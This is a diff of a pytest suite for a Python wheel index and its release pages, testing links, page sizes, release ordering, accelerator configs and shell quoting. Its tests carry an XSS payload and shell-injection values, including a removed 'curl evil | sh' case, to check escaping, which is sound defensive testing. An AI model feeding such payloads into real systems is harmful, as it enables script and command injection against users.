@@ -24,37 +24,49 @@ from jaxlib_select import cli
 from jaxlib_select.choose.decision import Decision
 from jaxlib_select.facts import known_releases, load_facts
 from pjrtwheel.backend import load_backends
-from pjrtwheel.docs.measures import Measure
 from pjrtwheel.errors import UsageError
 from pjrtwheel.products.index import installer_pages, write_index
-from pjrtwheel.products.index.projects import IndexedFile, Project, WheelSummary
+from pjrtwheel.products.index.projects import (
+    IndexedFile,
+    Project,
+    WheelFolder,
+    WheelSummary,
+    list_projects,
+    read_release,
+)
 from pjrtwheel.products.index.release_pages import is_release_page, picker, proof_map, render_pages, sizes
 from pjrtwheel.products.index.release_pages.accelerators import Accelerator, load_accelerators
 from pjrtwheel.products.index.release_pages.releases import ListedRelease, list_releases
 from pjrtwheel.record.entries import Entry
 from pjrtwheel.record.proofs import Compilation, Level, Outcome, ProgramResult, Proof, PythonProof, TargetProof
 from pjrtwheel.sets.projects import SELECTOR
-from pjrtwheel.wheel.names import parse_name
 from release_entries import entry_of
 from release_index import MACHINE, ORIGIN, make_release_dist
 
 HOSTILE = "</script><img src=x onerror=alert(1)>\"'&{{ 71933 * 3 }}"
 STATIC = [f"about_files/{name}" for name in ("about.css", "about.js")]
-MB = 1_000_000
 NAME = "jaxlib_abacus-1.2.3+own.1-cp312-abi3-manylinux_2_27_x86_64.whl"
 
 
 @pytest.fixture(scope="module")
-def projects(tmp_path_factory: pytest.TempPathFactory) -> tuple[Project, ...]:
-    """Return the projects of an index with several releases."""
+def index(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """Return an index with several releases."""
     dist = make_release_dist(tmp_path_factory.mktemp("dist"))
-    return write_index(dist, dist / "simple")
+    write_index(dist, dist / "simple")
+    return dist / "simple"
 
 
 @pytest.fixture(scope="module")
-def pages(projects: tuple[Project, ...]) -> dict[str, str]:
-    """Return their pages as text."""
-    return {path: data.decode() for path, data in render_pages(projects).items()}
+def projects(index: Path) -> tuple[Project, ...]:
+    """Return its projects."""
+    return list_projects([read_release(WheelFolder(index.parent))], "the index")
+
+
+@pytest.fixture(scope="module")
+def pages(index: Path) -> dict[str, str]:
+    """Return its pages for people as text."""
+    paths = {path.relative_to(index).as_posix(): path for path in index.rglob("*") if path.is_file()}
+    return {name: path.read_text("utf-8") for name, path in paths.items() if is_release_page(name)}
 
 
 class Reader(HTMLParser):
@@ -83,16 +95,14 @@ def read_page(text: str) -> Reader:
     return reader
 
 
-def test_every_link_leads_somewhere(projects: tuple[Project, ...], pages: dict[str, str], tmp_path: Path) -> None:
+def test_every_link_leads_somewhere(projects: tuple[Project, ...], pages: dict[str, str], index: Path) -> None:
     """To a page, to a place on one, to a wheel or to the index; nothing is asked of another machine."""
-    dist = make_release_dist(tmp_path / "dist")
-    write_index(dist, dist / "simple")
-    files = {path.relative_to(dist / "simple").as_posix() for path in (dist / "simple").rglob("*") if path.is_file()}
-    assert pages.keys() == {path for path in files if is_release_page(path)}
-    checked = check_links(pages, files)
-    assert checked > 300
+    files = {path.relative_to(index).as_posix() for path in index.rglob("*") if path.is_file()}
+    assert check_links(pages, files) > 300
     written = [path for path in pages if path.endswith(".html")]
     assert len(written) == 4 * len(known_releases()) + sum(len(project.entries) for project in projects)
+    assert sorted(pages.keys() - {*written}) == STATIC
+    assert {path for path, text in pages.items() if len(text.encode()) > 250_000} == set()  # a phone has to load it
 
 
 def test_every_link_of_an_index_without_wheels_leads_somewhere() -> None:
@@ -103,10 +113,11 @@ def test_every_link_of_an_index_without_wheels_leads_somewhere() -> None:
 
 
 def check_links(pages: dict[str, str], files: set[str]) -> int:
-    """Check that each link of the pages is to a file, or to a place on one of them, and return how many there are."""
+    """Check that each link is to a file, or to the one place of that name on a page, and return how many there are."""
     names = {path: read_page(text).names for path, text in pages.items() if path.endswith(".html")}
     checked = 0
-    for path in names:
+    for path, own in names.items():
+        assert len(own) == len(set(own)), path
         for link in read_page(pages[path]).links:
             parts = urlsplit(link)
             if parts.scheme:
@@ -121,51 +132,21 @@ def check_links(pages: dict[str, str], files: set[str]) -> int:
     return checked
 
 
-def test_the_pages_are_small(pages: dict[str, str]) -> None:
-    """One style sheet, few scripts, and no page that takes a phone long to load."""
-    sizes = {path: len(text.encode()) for path, text in pages.items()}
-    assert sorted(path for path in pages if not path.endswith(".html")) == STATIC
-    assert {path: size for path, size in sizes.items() if size > 250_000} == {}
-
-
-def test_identifiers_are_unique(pages: dict[str, str]) -> None:
-    """So that an address means one place."""
-    for path, text in pages.items():
-        names = read_page(text).names if path.endswith(".html") else []
-        assert len(names) == len(set(names)), path
-
-
-def test_the_scripts_know_no_backend(pages: dict[str, str], root: Path) -> None:
-    """What it knows of accelerators is data."""
-    backends = load_backends(root)
-    words = {*backends, *(b.distribution for b in backends.values()), *(b.package for b in backends.values())}
-    words |= {"cuda", "rocm", "oneapi", "nvidia", "intel"}
-    scripts = "".join(pages[path] for path in STATIC if path.endswith(".js")).lower()
-    assert [word for word in words if re.search(rf"\b{re.escape(word)}", scripts)] == []
-
-
-def hostile_entry(proof: Proof, **changes: Any) -> Entry:
+def hostile_entry(proof: Proof) -> Entry:
     """Return an entry in which every text that can be anything is an attack."""
-    entry = entry_of(
+    origin = {"project": HOSTILE, "filename": HOSTILE, "sha256": HOSTILE, "member": HOSTILE, "xla_commit": HOSTILE}
+    kernels = [{"filename": HOSTILE, "python": HOSTILE, "sha256": HOSTILE}]
+    return entry_of(
         NAME,
         lock_id=HOSTILE,
         gpu_code=(HOSTILE,),
         requires=(HOSTILE, f'a>=1; extra == "{HOSTILE.replace(chr(34), "")}"'),
         provider=HOSTILE,
-        provenance={
-            "project": HOSTILE,
-            "filename": HOSTILE,
-            "sha256": HOSTILE,
-            "member": HOSTILE,
-            "xla_commit": HOSTILE,
-            "kernels": [{"filename": HOSTILE, "python": HOSTILE, "sha256": HOSTILE}],
-            "override": {"version": HOSTILE, "reason": HOSTILE},
-        },
+        provenance={**origin, "kernels": kernels, "override": {"version": HOSTILE, "reason": HOSTILE}},
         changes={HOSTILE: (HOSTILE,)},
         built=replace(ORIGIN, commit=HOSTILE, date=HOSTILE),
         proof=proof,
     )
-    return replace(entry, **changes)
 
 
 def hostile_proof(level: Level) -> Proof:
@@ -208,11 +189,6 @@ def test_a_release_that_the_selector_does_not_know_is_installed_by_name() -> Non
     assert "data-picker" not in text
 
 
-def test_pages_repeat_to_the_byte(projects: tuple[Project, ...]) -> None:
-    """Whatever the order in which the projects come."""
-    assert render_pages(projects) == render_pages(tuple(reversed(projects)))
-
-
 def test_releases_are_in_order_of_their_versions(projects: tuple[Project, ...]) -> None:
     """The newest has the plain names; wheels without a lock go with all."""
     tool = f"{SELECTOR.replace('-', '_')}-9.9-py3-none-any.whl"
@@ -223,6 +199,7 @@ def test_releases_are_in_order_of_their_versions(projects: tuple[Project, ...]) 
     assert all(release.wheels[-1].entry.filename == tool for release in releases)
     assert releases[0].wheels[0].project == "jaxlib"
     assert releases[0].pythons == ("cp312", "cp313")
+    assert render_pages(projects) == render_pages(tuple(reversed(projects)))
 
 
 def abacus_release(*entries: Entry) -> ListedRelease:
@@ -261,24 +238,6 @@ def test_the_map_has_chips_by_wheels() -> None:
         ("Abacus 5", "bead_5"): [("aot", "1 of 2 programs"), ("static", ""), ("aot", "1 of 1 programs")],
     }
     assert [(row.label, [cell.level for cell in row.cells]) for row in second.rows] == [("any device", ["static"])]
-
-
-def test_a_place_on_the_map_has_a_name_of_its_own() -> None:
-    """Also with two wheels of one plugin and system that show the same."""
-    passed = Compilation("matmul", "single", 1, 0.5, ("bead_5",), outcome=Outcome.PASSED)
-    targets = tuple(TargetProof(name, name, ("bead_5",), 1.0, (passed,)) for name in ("a", "b", "c"))
-    python = PythonProof("cp312", "3.12.1", (), "no interpreter")
-    proof = Proof(Level.AOT, "0.1", (python,), ORIGIN, targets, "abacus", machine=MACHINE)
-    ran = replace(proof, level=Level.DEVICE, targets=(), machine=replace(MACHINE, chip="Bead 5%"))
-    tags = ("cp312-abi3-manylinux_2_27_x86_64", "cp312-abi3-manylinux_2_34_x86_64")
-    entries = [entry_of(f"jaxlib_abacus-1.2.3-{tag}.whl", proof=proof, other_proofs=(ran,)) for tag in tags]
-    release = abacus_release(*entries)
-    assert len({entry.platform for entry in entries}) == 1
-    projects = [Project("jaxlib-abacus", ("1.2.3",), tuple(w.file for w in release.wheels), tuple(entries))]
-    page = read_page(render_pages(projects)["about_files/proofs.html"].decode())
-    anchors = [link[1:] for link in page.links if link.startswith("#proof")]
-    assert len(anchors) == len(set(anchors)) == 8
-    assert [page.names.count(anchor) for anchor in anchors] == [1] * 8
 
 
 def test_a_device_is_a_row_of_its_own() -> None:
@@ -386,57 +345,45 @@ def join(*parts: dict[str, Any]) -> dict[str, Any]:
 
 def test_the_tables_have_what_the_script_looks_up(pages: dict[str, str]) -> None:
     """Without a script every machine on offer is on the page, with its reason and its commands."""
+    page = html.unescape(pages["about.html"].partition("</noscript>")[2])
     for system in read_table(pages["about.html"]):
         for package in system["packages"]:
             rows = [row for row in package["answers"] if not row["named"]]
-            assert all(f"<strong>{html.escape(row['accelerator'])}</strong>" in pages["about.html"] for row in rows)
-            assert all(f": {html.escape(row['reason'])}." in html_quotes(pages["about.html"]) for row in rows)
-            for text in package["commands"].values() if rows else ():
-                filled = text.replace("{python}", system["pythons"][0])
-                assert f"<code>{html.escape(filled)}</code>" in html_quotes(pages["about.html"])
+            assert all(f"<strong>{row['accelerator']}</strong>" in page for row in rows)
+            assert all(f": {row['reason']}." in page for row in rows)
+            commands = [text.replace("{python}", system["pythons"][0]) for text in package["commands"].values()]
+            assert all(f"<code>{text}</code>" in page for text in (commands if rows else ()))
 
 
-def html_quotes(text: str) -> str:
-    """Return a page in which quotes are written as `html.escape` does."""
-    return text.replace("&#34;", "&quot;").replace("&#39;", "&#x27;")
+OWN = '[[accelerators]]\nlabel = "Abacus 5"\nmachine = { tpu = { pci = ["1ae0:0063"] } }\n'
 
 
 def test_each_backend_says_itself_what_the_picker_offers(root: Path, tmp_path: Path) -> None:
     """A new one is a new directory; a shared directory counts once, and a small order comes first."""
     shutil.copytree(root / "plugins", tmp_path / "plugins")
     before = load_accelerators(tmp_path)
-    assert before == load_accelerators(root) == picker.read_offer().accelerators
     assert len({entry.label for entry in before}) == len(before)
-    cuda = (tmp_path / "plugins/cuda13/backend.toml").read_text("utf-8")
-    (tmp_path / "plugins/abacus").mkdir()
-    (tmp_path / "plugins/abacus/backend.toml").write_text(cuda, "utf-8")
-    own = '[[accelerators]]\nlabel = "Abacus 5"\nmachine = { tpu = { pci = ["1ae0:0063"] } }\n'
-    (tmp_path / "plugins/abacus/picker.toml").write_text(own, "utf-8")
+    shutil.copytree(tmp_path / "plugins/cuda13", tmp_path / "plugins/abacus")
     added = Accelerator("Abacus 5", {"tpu": {"pci": ["1ae0:0063"]}})
-    after = load_accelerators(tmp_path)
-    assert [entry for entry in after if entry != added] == list(before)
-    assert 0 < after.index(added) < len(after)
-    (tmp_path / "plugins/abacus/picker.toml").write_text(f"order = 1\n{own}", "utf-8")
-    assert load_accelerators(tmp_path) == (added, *before)
+    for order, place in ((50, len(before) - 1), (1, 0)):
+        (tmp_path / "plugins/abacus/picker.toml").write_text(f"order = {order}\n{OWN}", "utf-8")
+        assert load_accelerators(tmp_path) == (*before[:place], added, *before[place:])
 
 
 @pytest.mark.parametrize(
     ("table", "cause"),
     [
         ("name = 'x'", "name"),
-        ("label = 'A5'\nmachine = { nvida = { cuda = '13.0' } }", "none of its keys ('nvida') is known"),
-        ("label = 'A5'\nmachine = { nvidia = { gpu = [] } }", "the machine of 'A5' has unknown keys: nvidia.gpu"),
-        (
-            "label = 'A5'\nmachine = {}\nchoices = [{ label = 'new', machine = { amd = { room = '7' } } }]",
-            "the machine of 'new' has unknown keys: amd.room",
-        ),
+        ("label = 'A5'\nmachine = { nvida = { cuda = '13.0' } }", "nvida"),
+        ("label = 'A5'\nmachine = { nvidia = { gpu = [] } }", "nvidia.gpu"),
+        ("label = 'A5'\nmachine = {}\nchoices = [{ label = 'b', machine = { amd = { room = '7' } } }]", "amd.room"),
     ],
 )
 def test_a_slip_in_an_accelerator_is_found(root: Path, tmp_path: Path, table: str, cause: str) -> None:
     """The selector passes over what it does not know, so the picker would offer the CPU for it."""
     shutil.copytree(root / "plugins", tmp_path / "plugins")
     (tmp_path / "plugins/cpu/picker.toml").write_text(f"[[accelerators]]\n{table}\n", "utf-8")
-    with pytest.raises(UsageError, match=r"malformed list of accelerators: .*cpu/picker\.toml") as caught:
+    with pytest.raises(UsageError, match=r"cpu/picker\.toml") as caught:
         load_accelerators(tmp_path)
     assert cause in caught.value.cause
 
@@ -449,57 +396,27 @@ def test_rivals_are_the_origins_that_nothing_of_ours_needs() -> None:
     assert picker.find_rivals(abacus_release(plugin, bindings)) == ("up-a", "up-a-kernels")
 
 
-@pytest.mark.parametrize("project", ["x; curl evil | sh #", "a$(id)", "-r evil.txt", HOSTILE])
-def test_what_is_no_name_of_a_project_is_in_no_command(project: str) -> None:
-    """A release file may be anybody's, and its commands are copied."""
-    plugin = entry_of(NAME, provenance={"project": project, "kernels": [{"project": project}, {"project": "up-a"}]})
+@pytest.mark.parametrize("word", ["a$(id)==1", "`id`", "a&b", 'a"b', "a\\b", "a\nb", HOSTILE])
+def test_what_a_shell_reads_more_into_is_in_no_command(word: str) -> None:
+    """Neither as a word, also within quotes, nor as a project: a release file may be anybody's."""
+    with pytest.raises(ValueError, match="no word for a shell"):
+        picker.quote(word)
+    plugin = entry_of(NAME, provenance={"project": word, "kernels": [{"project": word}, {"project": "up-a"}]})
     assert picker.find_rivals(abacus_release(plugin)) == ("up-a",)
 
 
-@pytest.mark.parametrize("word", ["a$(id)==1", "`id`", "a&b", 'a"b', "a\\b", "a\nb"])
-def test_what_a_shell_reads_more_into_is_no_word(word: str) -> None:
-    """Within quotes as well."""
-    with pytest.raises(ValueError, match="no word for a shell"):
-        picker.quote(word)
-
-
-def measure(wheel: str, size: int, *, locked: bool) -> Measure:
-    """Return a measured wheel that takes twice its size on disk."""
-    name = parse_name(wheel)
-    numbers = {"libraries": 1, "rpath_elements": 0, "rpath_useless": 0, "unneeded_bytes": 0, "license_files": 1}
-    texts = {"wheel": wheel, "distribution": name.distribution, "tag": name.tag}
-    more = {"exports": 2, "sboms": 1, "gpu_code": (), "findings": {}, "installed_size": 2 * size}
-    return Measure(size=size, locked=locked, **texts, **numbers, **more)  # type: ignore[arg-type]
-
-
-def test_bars_compare_what_an_environment_takes(root: Path) -> None:
-    """Ours next to upstream's; a wheel that requires upstream's library comes on top of it, and replaces nothing."""
-    backends = load_backends(root)
-    bundled = next(backend for backend in backends.values() if backend.prebuilt.bundled and backend.kernels)
-    apart = next(backend for backend in backends.values() if not backend.prebuilt.bundled)
-    tag = "manylinux_2_27_x86_64"
-
-    def spell(project: str, tags: str) -> str:
-        return f"{project.replace('-', '_')}-1.2.3-{tags}-{tag}.whl"
-
-    kernels = bundled.kernels.project if bundled.kernels else ""
-    measures = (
-        measure(spell(bundled.prebuilt.project, "py3-none"), 30 * MB, locked=False),
-        *(measure(spell(kernels, f"{python}-{python}"), 10 * MB, locked=False) for python in ("cp312", "cp313")),
-        measure(spell(bundled.distribution, "cp312-abi3"), 50 * MB, locked=True),
-        measure(spell(apart.prebuilt.project, "cp312-cp312"), 99 * MB, locked=False),
-        measure(spell(apart.distribution, "cp312-abi3"), 1 * MB, locked=True),
-    )
-    measured = sizes.compare(measures, backends.values())
-    first, second = measured.comparisons
-    assert [(row.pair.name, row.needs_upstream) for row in (first, second)] == [
-        (bundled.name, False),
-        (apart.name, True),
-    ]
-    assert first.sizes == {"download": (40 * MB, 50 * MB), "installed": (80 * MB, 100 * MB), "release": (50 * MB,) * 2}
-    assert second.sizes == {kind: (99 * f * MB, 100 * f * MB) for kind, f in zip(sizes.KINDS, (1, 2, 1), strict=True)}
-    assert (measured.largest("download"), measured.versions) == (100 * MB, ("1.2.3",))
-    assert sizes.compare((), backends.values()).largest("download") == 1
+def test_sizes_of_what_requires_upstream_have_both(root: Path) -> None:
+    """A wheel that requires upstream's library comes on top of it, and replaces nothing."""
+    measured = sizes.read_measured(root)
+    apart = {backend.name for backend in load_backends(root).values() if not backend.prebuilt.bundled}
+    assert {row.pair.name for row in measured.comparisons if row.needs_upstream} == apart
+    for row in measured.comparisons:
+        assert row.pair.upstream
+        assert row.pair.ours
+        expected = row.pair.ours.download + (row.pair.upstream.download if row.needs_upstream else 0)
+        assert row.sizes["download"] == (row.pair.upstream.download, expected)
+        assert expected <= measured.largest("download")
+    assert sizes.compare((), load_backends(root).values()).largest("download") == 1
 
 
 def test_bindings_say_what_they_have_with_each_plugin() -> None:
